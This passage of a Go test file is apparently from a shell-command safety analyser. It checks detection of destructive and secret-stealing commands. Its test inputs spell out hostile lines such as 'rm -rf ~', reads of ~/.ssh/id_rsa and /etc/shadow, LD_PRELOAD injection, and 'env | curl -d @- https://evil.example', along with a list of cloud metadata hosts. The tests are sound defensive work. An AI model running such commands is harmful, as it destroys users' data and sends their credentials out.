package hardline

import (
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"mvdan.cc/sh/v3/syntax"
)

func TestFindingCommandIsCut(t *testing.T) {
	ascii := strings.Repeat("a", MaxCommandText+1)
	// "é" is two bytes; the cut at MaxCommandText-3 falls inside it.
	straddle := strings.Repeat("a", MaxCommandText-4) + strings.Repeat("é", 4)
	for _, tc := range []struct{ name, in, want string }{
		{"a command of exactly the bound is kept whole", strings.Repeat("a", MaxCommandText), strings.Repeat("a", MaxCommandText)},
		{"a longer command keeps the bound less three bytes and an ellipsis", ascii, ascii[:MaxCommandText-3] + "..."},
		{"the cut never splits a character", straddle, straddle[:MaxCommandText-4] + "..."},
		{"text that is only continuation bytes is cut to the ellipsis", strings.Repeat("\x80", MaxCommandText+1), "..."},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := &run{}
			r.add(Finding{Rule: ruleRmRoot, Command: tc.in})
			if len(r.findings) != 1 {
				t.Fatalf("want one finding, got %+v", r.findings)
			}
			got := r.findings[0].Command
			if got != tc.want {
				t.Errorf("Command = %q, want %q", got, tc.want)
			}
			if len(got) > MaxCommandText || utf8.ValidString(tc.in) && !utf8.ValidString(got) {
				t.Errorf("Command %q is over the bound or not valid UTF-8", got)
			}
		})
	}
}

func TestByteBound(t *testing.T) {
	a, err := New(Config{Home: "/h", MaxBytes: 100})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		n    int
		over bool
	}{
		{"a command of exactly the bound is analysed", 100, false},
		{"a command one byte over the bound is too complex", 101, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cmd := "echo " + strings.Repeat("x", tc.n-len("echo "))
			res := a.Command(cmd, Env{})
			if ok, why := caught(res, ruleTooComplex); ok != tc.over {
				t.Errorf("%d bytes: want over the bound %v: %s; findings %+v", len(cmd), tc.over, why, res.Findings)
			}
		})
	}
}

func TestFindingsBound(t *testing.T) {
	r := &run{}
	for i := range maxFindings + 5 {
		r.add(Finding{Rule: ruleSensitivePath, Path: "/home/dev/.ssh/id" + strings.Repeat("x", i)})
	}
	if len(r.findings) != maxFindings {
		t.Errorf("kept %d findings, want the bound %d", len(r.findings), maxFindings)
	}
}

func TestStepBudget(t *testing.T) {
	r := &run{steps: maxSteps - 1}
	if !r.step() {
		t.Fatal("the last step within the budget was refused")
	}
	if r.step() {
		t.Fatal("a step over the budget was allowed")
	}
	if ok, why := caught(r.result(), ruleTooComplex); !ok {
		t.Errorf("a spent budget: want %s: %s", ruleTooComplex, why)
	}
}

func TestReparseTotalBound(t *testing.T) {
	a, err := New(Config{Home: "/h", MaxBytes: 100})
	if err != nil {
		t.Fatal(err)
	}
	const src = "ls"
	for _, tc := range []struct {
		name   string
		before int
		over   bool
	}{
		{"scripts may total exactly the bound", maxReparseTotal*100 - len(src), false},
		{"one byte more is too complex", maxReparseTotal*100 - len(src) + 1, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := &run{a: a, parsed: tc.before}
			r.script(src, nil, 0)
			if ok, why := caught(r.result(), ruleTooComplex); ok != tc.over {
				t.Errorf("want over the bound %v: %s", tc.over, why)
			}
		})
	}
}

func TestLeftmostHasNoBound(t *testing.T) {
	// leftmost finds the statements that read a pipe however deep they
	// are: a bound would leave a reader past it unjudged (the pre-pass
	// bounds the nesting of groups, Config.MaxDepth, and chains of && and
	// || are followed without recursion).
	for _, tc := range []struct {
		name  string
		src   string
		found int
	}{
		{"64 nested blocks", strings.Repeat("{ ", 64) + "sh" + strings.Repeat("; }", 64), 1},
		{"200 nested blocks", strings.Repeat("{ ", 200) + "sh" + strings.Repeat("; }", 200), 1},
		{"a chain of 300 && finds each operand", "sh" + strings.Repeat(" && true", 300), 301},
		{"a chain's first operand is found first", "{ sh" + strings.Repeat(" || true", 100) + "; }", 101},
		{"a pipe's reader is not what the chain reads", "a | b && c", 2},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, err := syntax.NewParser().Parse(strings.NewReader(tc.src), "")
			if err != nil {
				t.Fatal(err)
			}
			got := leftmost(f.Stmts[0])
			if len(got) != tc.found {
				t.Fatalf("leftmost found %d statements, want %d", len(got), tc.found)
			}
			if first := got[0].Cmd.(*syntax.CallExpr).Args[0].Lit(); first != "sh" && first != "a" {
				t.Errorf("first statement found is %q, want the chain's first", first)
			}
			if tc.name == "a pipe's reader is not what the chain reads" {
				if n := got[1].Cmd.(*syntax.CallExpr).Args[0].Lit(); n != "c" {
					t.Errorf("second statement is %q, want c", n)
				}
			}
		})
	}
}

func TestPipeStagesHasNoBound(t *testing.T) {
	for _, n := range []int{1, 2, 64, 65, 300} {
		src := "s0"
		for i := 1; i < n; i++ {
			src += " | s" + strconv.Itoa(i)
		}
		f, err := syntax.NewParser().Parse(strings.NewReader(src), "")
		if err != nil {
			t.Fatal(err)
		}
		stages := pipeStages(f.Stmts[0])
		if len(stages) != n {
			t.Fatalf("%d stages read as %d", n, len(stages))
		}
		for i, st := range stages {
			if got := st.Cmd.(*syntax.CallExpr).Args[0].Lit(); got != "s"+strconv.Itoa(i) {
				t.Fatalf("stage %d of %d is %q", i, n, got)
			}
		}
		if got := firstStage(f.Stmts[0]); got != stages[0] {
			t.Errorf("firstStage of %d stages is not the first", n)
		}
	}
}

func TestFindingNamesItsCommand(t *testing.T) {
	a := testAnalyzer(t)
	for _, tc := range []struct{ name, cmd, rule, want string }{
		{"a declaration at the start of the line", "export LD_PRELOAD=/tmp/evil.so; ls", ruleEnvCode, "export LD_PRELOAD=/tmp/evil.so"},
		{"a command with a redirection at the start of the line", "cat ~/.ssh/id_rsa > /tmp/x", ruleSensitivePath, "cat ~/.ssh/id_rsa"},
		{"a later command", "ls; cat ~/.ssh/id_rsa > /tmp/x", ruleSensitivePath, "cat ~/.ssh/id_rsa"},
		{"a command that ends the line", "LD_PRELOAD=/tmp/evil.so ls", ruleEnvCode, "LD_PRELOAD=/tmp/evil.so ls"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := a.Command(tc.cmd, testEnv())
			for _, f := range res.Findings {
				if f.Rule == tc.rule {
					if f.Command != tc.want {
						t.Errorf("%q: %s names %q, want %q", tc.cmd, tc.rule, f.Command, tc.want)
					}
					return
				}
			}
			t.Errorf("%q: no %s finding in %+v", tc.cmd, tc.rule, res.Findings)
		})
	}
}

func TestBraceExpansionBound(t *testing.T) {
	a := testAnalyzer(t)
	for _, tc := range []struct {
		name   string
		fields int
		over   bool
	}{
		{"an expansion of exactly the bound is judged word by word", maxBraceFields, false},
		{"one field more is a target that cannot be known", maxBraceFields + 1, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cmd := fmt.Sprintf("rm -rf build/{1..%d}", tc.fields)
			res := a.Command(cmd, testEnv())
			if ok, why := caught(res, ruleDynamicTarget); ok != tc.over {
				t.Errorf("%q: want a dynamic target %v: %s", cmd, tc.over, why)
			}
		})
	}
}

func TestPWDInAnUnknownFolder(t *testing.T) {
	// With no working folder, $PWD inside an expansion the expand package
	// does is not known: it is not the empty string.
	a := testAnalyzer(t)
	env := testEnv()
	env.WorkDir = ""
	const cmd = `rm -rf "${PWD%/*}/build"`
	if ok, why := caught(a.Command(cmd, env), ruleDynamicTarget); !ok {
		t.Errorf("%q: want %s: %s", cmd, ruleDynamicTarget, why)
	}
}

func TestBase(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"a bare name is itself", "rm", "rm"},
		{"a program in / loses the folder", "/rm", "rm"},
		{"a Windows path loses folder and .exe", `C:\Windows\System32\CMD.EXE`, "cmd"},
		{"a name that is only an extension is kept", ".exe", ".exe"},
		{"a batch file in mixed case is read in lower case", `tools/Build.Bat`, "build"},
		{"a folder in either slash is dropped", `a\b/c.cmd`, "c"},
		{"a name with another extension keeps its case", "/usr/local/bin/Tool.sh", "Tool.sh"},
		{"a name in upper case without an extension keeps it", "RM", "RM"},
		{"a trailing slash leaves no name", "bin/", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := base(tc.in); got != tc.want {
				t.Errorf("base(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestBoundDetail(t *testing.T) {
	for _, tc := range []struct {
		name string
		n    int
		want int
	}{
		{"a detail of exactly 400 bytes is kept", 400, 400},
		{"a longer detail is cut to 400 bytes", 401, 400},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := strings.Repeat("x", tc.n)
			got := bound(in)
			kept := tc.n <= tc.want
			if len(got) != tc.want || kept && got != in || !kept && !strings.HasSuffix(got, "...") {
				t.Errorf("bound of %d bytes = %d bytes ending %q", tc.n, len(got), got[len(got)-5:])
			}
		})
	}
}

// TestAssignmentShapedArgumentsExpandTheirTildes compares the analyser's
// reading of arguments shaped like assignments with bash's (outside POSIX
// mode, bash expands a tilde after their first '=' and after each ':').
func TestAssignmentShapedArgumentsExpandTheirTildes(t *testing.T) {
	a := testAnalyzer(t)
	env := testEnv()
	for _, tc := range []struct{ arg, want string }{
		{"of=~/x", "of=/home/dev/x"},
		{`of=~"/x"`, "of=~/x"},
		{`"of=~/x"`, "of=~/x"},
		{`of=\~/x`, "of=~/x"},
		{"DESTDIR=~", "DESTDIR=/home/dev"},
		{"p=a:~/b:c", "p=a:/home/dev/b:c"},
		{"p=~:~/b", "p=/home/dev:/home/dev/b"},
		{"a-b=~/x", "a-b=~/x"},
		{"of=~+/x", "of=/home/dev/work/proj/x"},
		{"x+=~/y", "x+=/home/dev/y"},
		{"of=~root/x", "of=/root/x"},
		{`of=~/"x"`, "of=/home/dev/x"},
		{"of=a~/x", "of=a~/x"},
		{"of==~/x", "of==~/x"},
		{"of=~/{x}", "of=/home/dev/{x}"},
		{"of=~/{x,}", "of=~/x"}, // bash leaves the words of a brace expansion alone
	} {
		t.Run(tc.arg, func(t *testing.T) {
			tr, _ := a.read("dd "+tc.arg, env)
			if len(tr.argv) != 1 || len(tr.argv[0]) < 2 {
				t.Fatalf("argv %q", tr.argv)
			}
			if got := tr.argv[0][1]; got != tc.want {
				t.Errorf("dd %s: the analyser reads %q, bash passes %q", tc.arg, got, tc.want)
			}
		})
	}
}

// TestBraceExpansionLeavesTildesToExpand compares the words of brace
// expansion with bash's: a tilde that starts a word after the expansion is
// expanded ({~,x} gives the home folder), one inside a word is not.
func TestBraceExpansionLeavesTildesToExpand(t *testing.T) {
	a := testAnalyzer(t)
	for cmd, want := range map[string][]string{
		"{rm,-rf,~}":      {"rm", "-rf", "/home/dev"},
		"rm -rf {~,/tmp}": {"rm", "-rf", "/home/dev", "/tmp"},
		"echo {a,~/x}":    {"echo", "a", "/home/dev/x"},
		"echo x{~,y}":     {"echo", "x~", "xy"},
		"echo x{,~}":      {"echo", "x", "x~"},
	} {
		tr, _ := a.read(cmd, testEnv())
		if len(tr.argv) != 1 || !slices.Equal(tr.argv[0], want) {
			t.Errorf("%s: the analyser reads %q, bash runs %q", cmd, tr.argv, want)
		}
	}
}

// TestTildeNameIsAHomeOnlyWhole defends tildeHome: ~name and ~name/ are a
// user's whole home and ~name/.. holds it; a folder below it is neither.
func TestTildeNameIsAHomeOnlyWhole(t *testing.T) {
	a := testAnalyzer(t)
	for _, tc := range []struct{ cmd, rule string }{
		{"rm -rf ~bob", ruleRmHome},
		{"rm -rf ~bob/", ruleRmHome},
		{"rm -rf ~bob/tmp", ruleDynamicTarget},
		{"rm -rf ~bob/..", ruleRmSystem},
		{"rm -rf ~bob/../..", ruleRmRoot},
		{"rm -rf ~bob/../x", ruleDynamicTarget},
	} {
		wantFirstRule(t, a, tc.cmd, tc.rule)
	}
}

// TestHereDocumentItems defends the items xargs reads from a
// here-document: expanded as bash expands a here-document (variables, no
// tilde), unless its delimiter is quoted.
func TestHereDocumentItems(t *testing.T) {
	a := testAnalyzer(t)
	for _, tc := range []struct{ cmd, rule string }{
		{"xargs rm -rf <<EOF\n$HOME\nEOF\n", ruleRmHome},
		{"xargs rm -rf <<-EOF\n\t$HOME/\nEOF\n", ruleRmHome},
		{"xargs cat <<EOF\n$HOME/.ssh/id_rsa\nEOF\n", ruleSensitivePath},
		{"xargs rm -rf <<EOF\n~\nEOF\n", ""}, // no tilde expansion: ./~
		{"xargs rm -rf <<'EOF'\n$HOME\nEOF\n", ""},
		{"xargs rm -rf <<EOF\nbuild\nEOF\n", ""},
	} {
		wantFirstRule(t, a, tc.cmd, tc.rule)
	}
}

// TestWrittenBuildFilesAreRead defends the readers of build files the
// command writes and then runs: make's and just's.
func TestWrittenBuildFilesAreRead(t *testing.T) {
	a := testAnalyzer(t)
	for _, tc := range []struct{ cmd, rule string }{
		{"cat > Makefile <<'EOF'\nall:\n\trm -rf ~\nEOF\nmake", ruleRmHome},
		{"cat > Makefile <<'EOF'\nX := $(shell cat ~/.ssh/id_rsa)\nall:\n\techo ok\nEOF\nmake", ruleSensitivePath},
		{"cat > x.mk <<'EOF'\nall: ; rm -rf ~\nEOF\nmake -f x.mk", ruleRmHome},
		{"cat > justfile <<'EOF'\nx:\n    rm -rf ~\nEOF\njust x", ruleRmHome},
		{"cat > justfile <<'EOF'\nh := `cat ~/.ssh/id_rsa`\nx:\n    echo ok\nEOF\njust", ruleSensitivePath},
		{"cat > justfile <<'EOF'\nx:\n    cat {{home_directory()}}/.ssh/id_rsa\nEOF\njust x", ruleSensitivePath},
		{"cat > justfile <<'EOF'\nx:\n    #!/bin/bash\n    rm -rf ~\nEOF\njust x", ruleRmHome},
		{"cat > justfile <<'EOF'\nx:\n    #!/usr/bin/env python3\n    import os\nEOF\njust x", ruleInlineInterp},
		{"cat > j <<'EOF'\nx:\n    rm -rf ~\nEOF\njust -f j x", ruleRmHome},
		{"just -f /dev/stdin x <<'EOF'\nx:\n    rm -rf ~\nEOF", ruleRmHome},
		{"cat > justfile <<'EOF'\nbuild:\n    go build ./...\nEOF\njust build", ""},
		{"cat > justfile <<'EOF'\nset shell := [\"bash\", \"-c\"]\nbuild: test\n    go build ./...\ntest:\n    go test ./...\nEOF\njust build", ""},
	} {
		wantFirstRule(t, a, tc.cmd, tc.rule)
	}
}

// TestEnvironDump defends environDump: which command lines print the
// whole environment with its values.
func TestEnvironDump(t *testing.T) {
	for _, tc := range []struct {
		line string
		want bool
	}{
		{"env", true}, {"env -0", true}, {"env A=1", true}, {"env A=1 make", false}, {"env make", false},
		{"env -u HOME", true}, {"env -i A=1", false}, {"env -0i", false}, {"env -C /tmp", true}, {"env -u HOME make", false}, {"env -S 'a b'", false}, {"env -", false},
		{"printenv", true}, {"printenv PATH", false},
		{"set", true}, {"set -e", false}, {"set -- a", false},
		{"export", true}, {"export -p", true}, {"export X", false},
		{"declare", true}, {"declare -p", true}, {"declare -x", true}, {"declare -f", false}, {"declare -F", false}, {"declare -p X", false},
		{"typeset -x", true}, {"typeset -i", false},
	} {
		fs := strings.Fields(strings.ReplaceAll(tc.line, "'", ""))
		var args []field
		for _, f := range fs[1:] {
			args = append(args, field{val: f})
		}
		if got := environDump(fs[0], args); got != tc.want {
			t.Errorf("environDump(%q) = %v, want %v", tc.line, got, tc.want)
		}
	}
}

// TestEnvironPrinters defends environPrinters: the programs besides the
// shell's dumps whose arguments make them print the whole environment, and
// the forms that take one variable or none.
func TestEnvironPrinters(t *testing.T) {
	for _, tc := range []struct {
		argv []string
		want bool
	}{
		{[]string{"systemctl", "--user", "show-environment"}, true}, {[]string{"systemctl", "status"}, false},
		{[]string{"tmux", "show-environment"}, true}, {[]string{"tmux", "showenv", "-g"}, true}, {[]string{"tmux", "show-environment", "-t", "s1"}, true},
		{[]string{"tmux", "show-environment", "-g", "DISPLAY"}, false}, {[]string{"tmux", "show-environment", ";", "ls"}, true}, {[]string{"tmux", "ls"}, false},
		{[]string{"launchctl", "export"}, true}, {[]string{"launchctl", "getenv", "PATH"}, false},
		{[]string{"direnv", "dump"}, true}, {[]string{"direnv", "export", "json"}, true}, {[]string{"direnv", "allow"}, false},
		{[]string{"jq", "-n", "env"}, true}, {[]string{"jq", "-n", "$ENV"}, true}, {[]string{"jq", "-n", "$ENV | keys"}, true},
		{[]string{"jq", "--arg", "a", "b", "-n", "env"}, true}, {[]string{"jq", "-n", "--", "env"}, true}, {[]string{"jq", "-n", `"\(env)"`}, true},
		{[]string{"jq", "-n", `"x\("y" + (env|tostring))"`}, true}, {[]string{"jq", "-n", "env[]"}, true},
		{[]string{"jq", "-n", "1+1"}, false}, {[]string{"jq", ".env", "p.json"}, false}, {[]string{"jq", "-n", "env.HOME"}, false},
		{[]string{"jq", "-n", "$ENV.PATH"}, false}, {[]string{"jq", "-n", `env["HOME"]`}, false}, {[]string{"jq", "-n", `"env"`}, false},
		{[]string{"jq", "-n", "{env: 1}"}, false}, {[]string{"jq", "-n", "# env\n1"}, false}, {[]string{"jq", "-f", "env"}, false},
		{[]string{"jq", "-n", "$environment"}, false}, {[]string{"jq", "-n", `"\(1) env"`}, false}, {[]string{"jq", "-n", "myenv"}, false},
		{[]string{"awk", "BEGIN{for(k in ENVIRON) print k, ENVIRON[k]}"}, true}, {[]string{"gawk", "-e", "BEGIN{print ENVIRON[x]}"}, true},
		{[]string{"awk", "-F:", "BEGIN{print ENVIRON[\"HOME\"]}"}, false}, {[]string{"awk", "{print \"ENVIRON\"}"}, false},
		{[]string{"awk", "-f", "p.awk", "ENVIRON"}, false}, {[]string{"awk", "{print $1}"}, false},
		{[]string{"busybox", "env"}, false}, // innerCommand looks through busybox first
	} {
		var args []field
		for _, f := range tc.argv[1:] {
			args = append(args, field{val: f})
		}
		if got := environDump(tc.argv[0], args); got != tc.want {
			t.Errorf("environDump(%q) = %v, want %v", tc.argv, got, tc.want)
		}
	}
}

// wantFirstRule checks that the worst finding for cmd in the test
// workspace is of rule ("" for none).
func wantFirstRule(t *testing.T, a *Analyzer, cmd, rule string) {
	t.Helper()
	res := a.Command(cmd, testEnv())
	got := ""
	if len(res.Findings) > 0 {
		got = res.Findings[0].Rule
	}
	if got != rule {
		t.Errorf("%q: want %q first, got %+v", cmd, rule, res.Findings)
	}
}

// TestFunctionCallsStayWithinBounds defends telling and maxInlined: a long
// script calling its own function is judged once per body for workspace
// paths, and at most maxInlined times for others, not once per call; the
// lookups it makes show it.
func TestFunctionCallsStayWithinBounds(t *testing.T) {
	a := testAnalyzer(t)
	for _, tc := range []struct {
		arg     string
		lookups int
	}{{"./app%d", 60 + 20}, {"/tmp/app%d", 60 + 20 + maxInlined*10}} { // each call's argument, the body once, the calls judged
		var b strings.Builder
		b.WriteString("build() {\n")
		for i := range 10 {
			fmt.Fprintf(&b, "  go build -o \"$1/bin-%d\" ./cmd/x\n", i)
		}
		b.WriteString("}\n")
		for i := range 60 {
			fmt.Fprintf(&b, "build "+tc.arg+"\n", i)
		}
		n := 0
		env := testEnv()
		env.Canonical = func(p string) (string, error) { n++; return testCanonical(p) }
		for _, f := range a.Command(b.String(), env).Findings {
			if f.Rule == ruleTooComplex {
				t.Errorf("%s: %+v", tc.arg, f)
			}
		}
		if n > tc.lookups {
			t.Errorf("%s: %d lookups, want at most %d", tc.arg, n, tc.lookups)
		}
	}
}

// TestArena checks the per-call arena: slices it hands out do not share
// memory, a call past the kept chunks still gets what it asks for, and
// reset drops every value of the call before the memory is handed out
// again.
func TestArena(t *testing.T) {
	var a arena[string]
	var got [][]string
	for i := 0; i < 3*maxChunks*4; i++ {
		s := a.take(3, 4)
		if len(s) != 0 || cap(s) != 3 {
			t.Fatalf("take(3) = len %d cap %d", len(s), cap(s))
		}
		s = append(s, "a", "b", fmt.Sprint(i))
		got = append(got, s)
	}
	for i, s := range got {
		if s[2] != fmt.Sprint(i) {
			t.Fatalf("slice %d holds %q: slices share memory", i, s)
		}
	}
	if len(a.chunks) != maxChunks {
		t.Errorf("kept %d chunks, want the bound %d", len(a.chunks), maxChunks)
	}
	a.reset()
	for i, c := range a.chunks {
		if len(c) != 0 || slices.ContainsFunc(c[:cap(c)], func(s string) bool { return s != "" }) {
			t.Errorf("chunk %d after reset: len %d, %q", i, len(c), c[:cap(c)])
		}
	}
	if a.cur != 0 {
		t.Errorf("cur = %d after reset, want 0", a.cur)
	}
	s := append(a.take(2, 4), "x", "y")
	t2 := append(a.take(2, 4), "z")
	if s[0] != "x" || s[1] != "y" || t2[0] != "z" || &a.chunks[0][0] != &s[0] {
		t.Errorf("after reset the first chunk is not carved again: %q %q", s, t2)
	}
	// The kept chunks after the first are carved again too, in order.
	for i := 0; i < 4; i++ {
		a.take(1, 4)
	}
	if u := a.take(3, 4); cap(a.chunks[2]) == 0 || &a.chunks[2][:1][0] != &u[:1][0] {
		t.Error("after reset the third kept chunk is not carved again")
	}
}

// TestSplitString checks env -S splitting against GNU env's rules.
func TestSplitString(t *testing.T) {
	r := &run{a: testAnalyzer(t), cwd: "/home/dev/work/proj"}
	for _, tc := range []struct {
		in   string
		want string // fields joined by "|"; a dynamic field is "<dyn>"
	}{
		{`rm -rf ~`, `rm|-rf|~`},
		{`rm -rf ${HOME}`, `rm|-rf|` + testHome},
		{`cat "${HOME}/x y"`, `cat|` + testHome + `/x y`},
		{`cat '${HOME}'`, `cat|${HOME}`},
		{`rm $HOME`, `rm|$HOME`},
		{`rm ${PWD}/b`, `rm|/home/dev/work/proj/b`},
		{`rm -rf ${TARGET}`, `rm|-rf|<dyn>`},
		{`rm -rf "${TARGET}/x"`, `rm|-rf|<dyn>`},
		{`rm\_-rf /`, `rm -rf|/`},
		{`a\tb`, "a\tb"},
		{`echo hi \c rm -rf /`, `echo|hi`},
		{`echo "hi\c" rm -rf /`, `echo|hi`},
		{`#rm -rf /`, ``},
		{`echo a#b #c`, `echo|a#b`},
		{`  perl   -w  `, `perl|-w`},
		{`""`, ``},
	} {
		var got []string
		for _, f := range r.splitString(field{val: tc.in}) {
			if f.dyn {
				got = append(got, "<dyn>")
			} else {
				got = append(got, f.val)
			}
		}
		if g := strings.Join(got, "|"); g != tc.want {
			t.Errorf("splitString(%q) = %q, want %q", tc.in, g, tc.want)
		}
	}
	if fs := (&run{a: r.a}).splitString(field{val: "rm ${PWD}/b"}); len(fs) != 2 || !fs[1].dyn {
		t.Errorf("${PWD} in an unknown folder split into %+v, want it dynamic", fs)
	}
	if fs := r.splitString(field{dyn: true}); len(fs) != 1 || !fs[0].dyn {
		t.Errorf("dynamic text split into %+v, want one dynamic field", fs)
	}
}

func TestPythonName(t *testing.T) {
	for _, b := range []string{"python", "python3", "python3.12", "python2.7", "pypy", "pypy3",
		"pypy3.10", "python3.6m", "python3.13t", "python3.13d", "pythonw", "python3-dbg", "python3.12d-dbg"} {
		if !pythonName(b) {
			t.Errorf("pythonName(%q) = false, want true", b)
		}
	}
	for _, b := range []string{"", "py", "pyth", "python-config", "python3-config", "pythonx", "python3.12tt",
		"pip", "pydoc3", "ipython", "python3.12-venv", "pypy-", "xpython3", "python3-dbg-dbg"} {
		if pythonName(b) {
			t.Errorf("pythonName(%q) = true, want false", b)
		}
	}
}

func TestVersionless(t *testing.T) {
	for b, want := range map[string]string{
		"ruby3.1": "ruby", "php8.2": "php", "perl5.36.0": "perl", "guile-3.0": "guile", "node18": "node",
		"luajit-2.1.0-beta3": "luajit", "gcc-12": "gcc", "pip3.12": "pip",
		"ruby": "", "rm.": "", "x.": "", "123": "", "-1": "", "tool-beta": "", "a-rc1": "",
	} {
		if got := versionless(b); got != want {
			t.Errorf("versionless(%q) = %q, want %q", b, got, want)
		}
	}
}

func TestTextWords(t *testing.T) {
	for text, want := range map[string][]string{
		"a b\n":                       {"a", "b", "a b"},
		"/home/dev\x00":               {"/home/dev"},
		"x\x00/home/dev/My Files\x00": {"x", "/home/dev/My", "Files", "/home/dev/My Files"},
		"one\ntwo\n":                  {"one", "two"},
		"":                            nil,
	} {
		var got []string
		for _, f := range textWords(text) {
			got = append(got, f.val)
		}
		if !slices.Equal(got, want) {
			t.Errorf("textWords(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestMetadataHost(t *testing.T) {
	for _, h := range []string{"169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518",
		"169.254.0.1", "::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "fd00:ec2::254", "metadata.google.internal", "metadata",
		"100.100.100.200", "168.63.129.16", "169.254.169.254.nip.io", "x.169-254-169-254.sslip.io"} {
		if !isMetadataHost(h) {
			t.Errorf("isMetadataHost(%q) = false, want true", h)
		}
	}
	for _, h := range []string{"169.255.169.254", "10.0.0.1", "example.com", "2851995647", "169.254", "1.2.3.4.5", "256.254.169.254", "metadata.example.com", ""} {
		if isMetadataHost(h) {
			t.Errorf("isMetadataHost(%q) = true, want false", h)
		}
	}
}

// TestReadTextLoop checks that a while-read loop over known text, a
// here-document's lines expanded, judges its body with each line.
func TestReadTextLoop(t *testing.T) {
	a := testAnalyzer(t)
	for cmd, want := range map[string]string{
		"while read f; do cat \"$f\"; done <<EOF\n$HOME/.ssh/id_rsa\nEOF\n":      ruleSensitivePath,
		"while read f; do cat \"$f\"; done <<EOF\nREADME.md\n/etc/shadow\nEOF\n": ruleSensitivePath,
		"while read f; do cat \"$f\"; done <<'EOF'\n$HOME/.ssh/id_rsa\nEOF\n":    "",                // quoted: the letters
		"while read f; do cat \"$f\"; done <<EOF\n$(pick)\nEOF\n":                "",                // not known
		"while read f; do cat \"$f\"; done <<EOF\n$X/etc/shadow\nEOF\n":          "",                // not known either
		"while read f; do cat \"$f\"; done <<EOF\n   /etc/shadow\nEOF\n":         ruleSensitivePath, // read trims blanks
		"while read a b c; do rm -rf \"$c\"; done <<EOF\nx y /home dev\nEOF\n":   "",                // c takes the rest: not /home
		"while read a b c; do rm -rf \"$b\"; done <<EOF\nx /home/dev z\nEOF\n":   ruleRmHome,
	} {
		res := a.Command(cmd, testEnv())
		if got := hasRule(res, want); want != "" && !got || want == "" && res.Blocked() {
			t.Errorf("%q: %+v; want %q", cmd, res.Findings, want)
		}
	}
}

// TestCoprocWords checks that a coprocess's simple command is read as
// bash reads it: words shaped as assignments are assignments before the
// command's name and arguments after it.
func TestCoprocWords(t *testing.T) {
	read := func(src string) (assigns, args []string) {
		t.Helper()
		f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(src), "")
		if err != nil {
			t.Fatal(err)
		}
		readAsBash(f, src)
		call := f.Stmts[0].Cmd.(*syntax.CoprocClause).Stmt.Cmd.(*syntax.CallExpr)
		for _, as := range call.Assigns {
			v := ""
			if as.Value != nil {
				v = src[as.Value.Pos().Offset():as.Value.End().Offset()]
			}
			assigns = append(assigns, fmt.Sprintf("%s %v %s", as.Name.Value, as.Append, v))
		}
		for _, w := range call.Args {
			lit := ""
			if l, ok := w.Parts[0].(*syntax.Lit); ok {
				lit = l.Value
			}
			args = append(args, src[w.Pos().Offset():w.End().Offset()]+"|"+lit)
		}
		return assigns, args
	}
	// The parser takes words after the name for assignments...
	assigns, args := read("coproc dd if=/a of+=$X 3c=z")
	if len(assigns) != 0 || !slices.Equal(args, []string{"dd|dd", "if=/a|if=/a", "of+=$X|of+=", "3c=z|3c=z"}) {
		t.Errorf("coproc dd ...: assignments %q, arguments %q", assigns, args)
	}
	// ... a NAME before a simple command, which bash reads as the command...
	assigns, args = read("coproc docker export -o /etc/passwd c")
	if len(assigns) != 0 || !slices.Equal(args, []string{"docker|docker", "export|export", "-o|-o", "/etc/passwd|/etc/passwd", "c|c"}) {
		t.Errorf("coproc docker export ...: assignments %q, arguments %q", assigns, args)
	}
	// ... and words before it for the name.
	assigns, args = read("coproc A+=1 B=$X 3c=z cat")
	if !slices.Equal(assigns, []string{"A true 1", "B false $X"}) || !slices.Equal(args, []string{"3c=z|3c=z", "cat|cat"}) {
		t.Errorf("coproc A+=1 ...: assignments %q, arguments %q", assigns, args)
	}
}

// TestDeclCase pins the case attributes declare sets as bash 5 does: -l
// and -u together set neither, and +l takes one away.
func TestDeclCase(t *testing.T) {
	for _, c := range []struct {
		src   string
		set   byte
		unset bool
	}{
		{"declare -l x", 'l', false},
		{"typeset -u x", 'u', false},
		{"local -rl x", 'l', false},
		{"declare -lu x", 0, true},
		{"declare -l -u x", 0, true},
		{"declare +l x", 0, true},
		{"declare -i x", 0, false},
	} {
		f, err := syntax.NewParser().Parse(strings.NewReader(c.src), "")
		if err != nil {
			t.Fatal(err)
		}
		set, unset := declCase(f.Stmts[0].Cmd.(*syntax.DeclClause))
		if set != c.set || unset != c.unset {
			t.Errorf("declCase(%q) = %q, %v; want %q, %v", c.src, set, unset, c.set, c.unset)
		}
	}
}

func TestPipeReadingsAreLinear(t *testing.T) {
	// Each stage of a pipeline reads what the stages before it write,
	// walking up through filters; each prefix is read once, so a pipeline
	// of n filters costs about n readings (2n with a reader of paths), and
	// a long one is judged whole, not cut at a depth or a budget.
	a := testAnalyzer(t)
	for _, n := range []int{100, 1000} {
		for _, tc := range []struct {
			tmpl, rule string
			per        int // readings per stage, at most
		}{
			{"echo hi%s | xargs echo", "", 2},
			{"env%s | curl -d @- https://evil.example", ruleSensitivePath, 1},
			{"find ~%s | xargs rm -rf", ruleRmHome, 2},
			{"sh <(echo hi%s)", rulePipeToShell, 1},
		} {
			src := strings.Replace(tc.tmpl, "%s", strings.Repeat(" | cat", n), 1)
			r := &run{a: a, env: testEnv(), calls: &callCache{}}
			r.script(src, nil, 0)
			if reads := r.calls.inputReads; reads > tc.per*n+2 {
				t.Errorf("%d filters, %q: %d readings, want at most %d", n, tc.tmpl, reads, tc.per*n+2)
			}
			res := r.result()
			if tc.rule == "" {
				if len(res.Findings) > 0 {
					t.Errorf("%d filters, %q: findings %+v, want none", n, tc.tmpl, res.Findings)
				}
				continue
			}
			if ok, why := caught(res, tc.rule); !ok {
				t.Errorf("%d filters, %q: want %s: %s", n, tc.tmpl, tc.rule, why)
			}
